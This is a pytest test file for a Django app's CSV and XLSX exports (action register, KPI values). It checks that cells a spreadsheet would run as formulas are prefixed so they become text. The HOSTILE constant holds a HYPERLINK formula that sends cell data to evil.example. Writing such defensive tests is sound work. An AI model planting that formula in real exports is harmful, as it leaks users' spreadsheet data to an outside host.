"""Every CSV and XLSX the product writes neutralises cells a spreadsheet would run as a
formula (OWASP CSV injection), while numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from tests.actions.factories import ActionFactory
from tests.kpis.factories import KpiFactory, KpiValueFactory
from tests.wsoa.factories import ConcernFactory, OutcomeFactory
from wsoa.models import Role
from wsoa.spreadsheets import safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the minutes")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Train all SENCOs", "Train all SENCOs"),
        ("", ""),
        (-5, -5),
        (Decimal("-2.5"), Decimal("-2.5")),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


@pytest.fixture
def reader(client, member_of, plan):
    client.force_login(member_of(plan, Role.BOARD_MEMBER))
    return client


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def _xlsx(response) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)


def _cells(rows) -> list:
    return [cell for row in rows for cell in row]


def _assert_neutralised(cells):
    assert HOSTILE not in cells
    assert "'" + HOSTILE in cells


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_action_register_download_neutralises_formulas(reader, plan, export):
    outcome = OutcomeFactory(concern=ConcernFactory(plan=plan))
    ActionFactory(outcome=outcome, ref="1.1a", description=HOSTILE)
    url = reverse("action-register", args=[plan.pk]) + f"?_export={export}"
    response = reader.get(url)
    rows = _csv(response) if export == "csv" else _xlsx(response)
    _assert_neutralised(_cells(rows))


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_kpi_values_download_neutralises_formulas_and_keeps_numbers(reader, plan, export):
    kpi = KpiFactory(plan=plan)
    KpiValueFactory(kpi=kpi, value=Decimal("75"), note=HOSTILE)
    response = reader.get(reverse("kpi-dataset-export", args=[plan.pk, export]))
    rows = _csv(response) if export == "csv" else _xlsx(response)
    cells = _cells(rows)
    _assert_neutralised(cells)
    header = list(rows[0])
    value_cell = rows[1][header.index("value")]
    if export == "xlsx":
        assert isinstance(value_cell, int | float) and value_cell == 75  # a number, not text
    else:
        assert value_cell == "75"
